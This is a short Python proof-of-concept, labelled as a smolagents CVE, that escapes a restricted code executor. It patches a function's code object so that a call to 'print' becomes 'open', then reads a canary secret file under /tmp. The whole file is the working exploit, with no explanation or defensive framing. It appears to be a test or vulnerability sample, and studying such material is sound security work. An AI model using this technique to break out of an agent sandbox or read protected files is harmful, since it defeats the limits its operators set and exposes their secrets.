# source: smolagents CVE-2026-4963
# effect: secret

def target(path):
    return path


def model(path):
    return print(path)


setattr(target, "__code__", model.__code__.replace(co_names=("open",)))
print(target("/tmp/canary/secret").read())
